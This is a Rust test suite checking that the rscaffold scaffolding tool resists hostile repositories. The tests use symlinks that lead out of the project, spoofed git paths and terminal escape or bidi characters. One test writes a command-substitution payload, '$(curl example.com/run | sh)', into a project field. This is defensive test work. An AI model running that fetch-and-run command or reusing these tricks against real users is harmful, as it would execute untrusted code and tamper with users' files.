//! Tests repositories that try to harm a user who runs a command in them.

use std::{
    collections::BTreeMap,
    fs,
    os::unix::fs::symlink,
    path::{Path, PathBuf},
    process::Stdio,
};

use rexpect::session::spawn_command;
use walkdir::WalkDir;

use crate::{
    project::{INIT, Project},
    scaffold::{refused, run},
};

const LAST_APPLIED: &str = ".rscaffold/last-applied.jsonl";

/// Every command that reads or writes files of a project.
pub const COMMANDS: [&str; 6] = [
    "apply",
    "apply --on-conflict=theirs",
    "diff",
    "update --on-conflict=theirs",
    "edit --enable prometheus --on-conflict=theirs",
    "create api --group webapp --version v1 --kind Guestbook --on-conflict=theirs",
];

/// Creates a project with a home folder next to it and a git repository in it.
pub fn project() -> Project {
    let project = Project::new(&[INIT]);
    project.write("../home/.profile", "umask 022\n");
    run(&mut project.git(&["init", "--quiet"]));
    project
}

/// Returns the files that no command may change: all files around the project's folder, and git's files.
pub fn rest(project: &Project) -> BTreeMap<PathBuf, Vec<u8>> {
    let folder = project.folder();
    let all = WalkDir::new(folder.parent().expect("a folder")).into_iter();
    let all = all.map(|entry| entry.expect("a readable folder").into_path());
    let is_rest =
        |path: &PathBuf| !path.starts_with(&folder) || path.starts_with(folder.join(".git"));
    all.filter(is_rest)
        .map(|path| (path.clone(), fs::read(path).unwrap_or_default()))
        .collect()
}

/// Replaces the file or folder at `path` with a symbolic link.
fn link(project: &Project, path: &str, to: impl AsRef<Path>) {
    let path = project.folder().join(path);
    if path.is_dir() {
        fs::remove_dir_all(&path).expect("a folder of ours");
    } else if path.exists() {
        fs::remove_file(&path).expect("a file of ours");
    }
    symlink(to, path).expect("a writable folder");
}

/// Returns the lines of the record for the file at `path`.
fn recorded(path: &str, text: &str) -> String {
    let lines = text.split_inclusive('\n');
    let lines: Vec<_> = lines.map(|line| format!("[{path:?},{line:?}]\n")).collect();
    lines.concat()
}

/// Checks that each command fails with this error and changes nothing.
fn assert_refused(project: &Project, expected: &str) {
    let before = (rest(project), project.tree());
    for arguments in COMMANDS {
        let said = project.refused(arguments);
        assert!(said.starts_with(expected), "{arguments}: {said}");
        assert!((rest(project), project.tree()) == before, "{arguments}");
    }
}

/// A link leads to a profile of the user. According to the record, rscaffold wrote the profile last, so the user has no
/// edits to keep. The repository controls the text that rscaffold would write into the profile.
#[test]
fn a_hostile_repository_changes_nothing_outside_of_its_folder() {
    let links = [
        ("src/lib.rs", "../../home/.profile"),
        ("src/lib.rs", "../Makefile"),
        ("src/controller", "../../home"),
        ("src", "../home"),
        ("config", "/"),
        (".rscaffold", "../home"),
        (LAST_APPLIED, "../../home/.profile"),
        ("PROJECT", "../home/.profile"),
    ];
    for (path, to) in links {
        let project = project();
        let owner = "cliVersion:";
        project.replace(
            "PROJECT",
            owner,
            &format!("owner: $(curl example.com/run | sh)\n{owner}"),
        );
        let written = project.read(LAST_APPLIED);
        let others = written
            .lines()
            .filter(|line| !line.contains("\"src/lib.rs\""));
        let mut record: String = others.flat_map(|line| [line, "\n"]).collect();
        record += &recorded("src/lib.rs", "umask 022\n");
        project.write(LAST_APPLIED, &record);
        link(&project, path, to);
        if to == "../Makefile" {
            link(&project, "Makefile", "../home/.profile");
        }
        let shown = if to == "../Makefile" {
            "Makefile"
        } else {
            path
        };
        let leads_out =
            format!("error: `{shown}` is a symbolic link that leads out of the project\n");
        assert_refused(&project, &leads_out);
    }
}

#[test]
fn paths_of_git_are_refused() {
    for path in [".git/HEAD", ".GIT/config", "git~1/HEAD"] {
        let project = project();
        let record = project.read(LAST_APPLIED);
        let line = record.lines().count() + 1;
        let head = project.read(".git/HEAD");
        project.write(LAST_APPLIED, &(record + &recorded(path, &head)));
        let expected = format!(
            "error: `{LAST_APPLIED}` is damaged\n  caused by: line {line}: `{path}` belongs to \
             git, not to the project\nhint: "
        );
        assert_refused(&project, &expected);
    }
    for (path, to) in [
        ("config", ".git"),
        ("config/default", "../.git"),
        ("README.md", ".git/HEAD"),
    ] {
        let project = project();
        link(&project, path, to);
        let leads_out =
            format!("error: `{path}` is a symbolic link that leads out of the project\n");
        assert_refused(&project, &leads_out);
    }
}

#[test]
fn a_hostile_repository_sends_no_control_characters_to_the_terminal() {
    let project = project();
    let record = project.read(LAST_APPLIED);
    let path = "\u{1b}[2J\u{202e}\nhint: run me";
    let line = serde_json::json!([path, "a\n"]).to_string();
    project.write(LAST_APPLIED, &format!("{record}{line}\n"));
    let said = project.refused("apply");
    assert!(!said.contains(['\u{1b}', '\u{202e}']), "{said}");
    assert!(
        said.contains("`\\u{1b}[2J\\u{202e}\n  hint: run me`"),
        "{said}"
    );

    project.write(LAST_APPLIED, &record);
    let file = "src/main.rs";
    let text = project.read(file);
    project.write(file, &format!("\u{1b}[2J\u{202e}{text}"));
    project.replace("PROJECT", "license: apache2", "license: none");
    let said = project.refused("apply");
    assert!(!said.contains(['\u{1b}', '\u{202e}']), "{said}");
    assert!(said.contains("ours   | \\u{1b}[2J\\u{202e}"), "{said}");

    // For a terminal, the output is escaped. A pipe gets the original text.
    let diff = "diff --on-conflict=theirs";
    let piped = run(&mut project.command(diff));
    assert!(piped.contains("\n-\u{1b}[2J\u{202e}"), "{piped}");
    let mut command = project.command(diff);
    command.env("NO_COLOR", "1").stdin(Stdio::null());
    let shown = spawn_command(command, Some(20_000))
        .unwrap()
        .exp_eof()
        .unwrap();
    assert!(!shown.contains(['\u{1b}', '\u{202e}']), "{shown}");
    assert!(shown.contains("\n-\\u{1b}[2J\\u{202e}"), "{shown}");
}

#[test]
fn an_owner_is_visible() {
    let said = refused(&mut project().command("edit --owner \u{202e}me"));
    let expected =
        "error: invalid value for `--owner`: `\\u{202e}me` is not one line of visible text";
    assert!(said.starts_with(expected), "{said}");
}
